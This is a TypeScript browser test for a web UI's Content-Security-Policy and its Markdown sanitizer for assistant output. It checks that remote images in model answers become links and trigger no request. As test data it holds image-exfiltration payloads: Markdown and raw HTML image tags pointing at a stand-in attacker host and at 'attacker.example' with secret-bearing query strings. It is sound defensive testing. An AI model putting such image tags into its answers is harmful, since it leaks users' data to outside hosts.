// The UI's Content-Security-Policy and the assistant-Markdown sanitizer in a real browser: the
// policy is a response header (what `curl -sI` shows), the app still boots under it, and an
// image the model puts in its answer (Markdown or raw HTML, pointing at another host) makes no
// request; it is shown as a link instead.
import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import type { Page } from 'playwright-core'
import type { FakeAgent } from '../support/fake-agent.ts'
import { ADMIN_PASSWORD, type TestServer } from '../support/server.ts'
import {
  BROWSER_TEST_MS,
  type BrowserSuite,
  connectAgent,
  registerAgent,
  signIn,
  startBrowserSuite,
} from './browser.ts'

let suite: BrowserSuite
let server: TestServer
let page: Page
let agent: FakeAgent
/** Another origin standing in for an attacker's host: it counts what reaches it. */
let attacker: ReturnType<typeof Bun.serve>
const attackerHits: string[] = []
const requested: string[] = []
const violations: string[] = []

beforeAll(async () => {
  attacker = Bun.serve({
    hostname: '127.0.0.1',
    port: 0,
    fetch(request) {
      attackerHits.push(new URL(request.url).pathname)
      return new Response('GIF89a', { headers: { 'content-type': 'image/gif' } })
    },
  })
  suite = await startBrowserSuite()
  server = suite.server
  page = suite.page
  page.on('request', (request) => requested.push(request.url()))
  page.on('console', (message) => {
    if (/content security policy/i.test(message.text())) violations.push(message.text())
  })
  const admin = await server.login()
  const tokenRes = await server.request('/api/remote/machines/register', {
    method: 'POST',
    cookie: admin,
    json: { tenant_id: 1 },
  })
  const { registration_token } = (await tokenRes.json()) as { registration_token: string }
  agent = await connectAgent(server, await registerAgent(server, registration_token, 'csp-box'))
}, BROWSER_TEST_MS * 2)

afterAll(async () => {
  await agent?.close()
  await suite?.close()
  attacker?.stop(true)
})

describe('content security in the browser', () => {
  test('curl -sI of the UI shows a strict Content-Security-Policy', async () => {
    // Asynchronous: the server answering curl runs in this process.
    const curl = Bun.spawn(['curl', '-sI', `${server.url}/workspace`], { stdout: 'pipe' })
    const head = await new Response(curl.stdout).text()
    expect(await curl.exited).toBe(0)
    const policy = /^content-security-policy: (.+)$/im.exec(head)?.[1] ?? ''
    expect(policy).toContain("script-src 'self' 'sha256-")
    expect(/script-src ([^;]*)/.exec(policy)?.[1]).not.toContain('unsafe-inline')
    expect(policy).toMatch(/img-src 'self' data:(;|$)/)
    expect(policy).toContain("frame-ancestors 'none'")
    expect(head).toMatch(/^x-content-type-options: nosniff/im)
  })

  test(
    'the app boots under the policy, and images in assistant output load nothing remote',
    async () => {
      await signIn(page, 'admin', ADMIN_PASSWORD)
      const created = await page.evaluate(async (machineId) => {
        const res = await fetch('/api/remote/sessions', {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ machine_id: machineId, project_path: '/srv/app' }),
        })
        return (await res.json()) as { session: { session_id: string } }
      }, agent.options.machineId)
      const sessionId = created.session.session_id
      await agent.waitForCommand('session.start')
      await agent.send({ type: 'session.started', session_id: sessionId })
      await page.goto(`/workspace?session=${sessionId}`)
      const remote = `http://127.0.0.1:${attacker.port}`
      const text = [
        `Here is the chart: ![chart](${remote}/md.png?d=secret-data)`,
        `and raw: <img src="${remote}/raw.png?d=more">`,
        '![tracker](https://attacker.example/pixel.gif?d=secret)',
        '![dot](data:image/gif;base64,R0lGODlhAQABAAAAACw=)',
        'Done.',
      ].join('\n\n')
      const event = { kind: 'assistant_text' as const, text }
      await agent.send({
        type: 'session.output',
        session_id: sessionId,
        records: [
          { seq: 0, stream: 'stdout', data: JSON.stringify(event), ts: new Date().toISOString(), event },
        ],
      })
      const answer = page.getByTestId('assistant-message')
      await answer.getByText('Done.').waitFor()
      // Remote images are links the user may follow, not images.
      const links = answer.locator('a.remote-image')
      expect(await links.count()).toBe(2)
      expect(await links.nth(0).getAttribute('href')).toBe(`${remote}/md.png?d=secret-data`)
      expect(await links.nth(0).textContent()).toBe('chart')
      expect(await links.nth(1).getAttribute('href')).toBe('https://attacker.example/pixel.gif?d=secret')
      expect(await answer.locator('img').count()).toBe(1)
      expect(await answer.locator('img').getAttribute('src')).toStartWith('data:image/gif')
      // Raw HTML in the text is text, not an element.
      expect(await answer.textContent()).toContain('<img src=')
      await page.waitForTimeout(500)
      expect(attackerHits).toEqual([])
      expect(requested.filter((url) => !url.startsWith(server.url) && !url.startsWith('data:'))).toEqual([])
      expect(violations).toEqual([])
    },
    BROWSER_TEST_MS,
  )
})
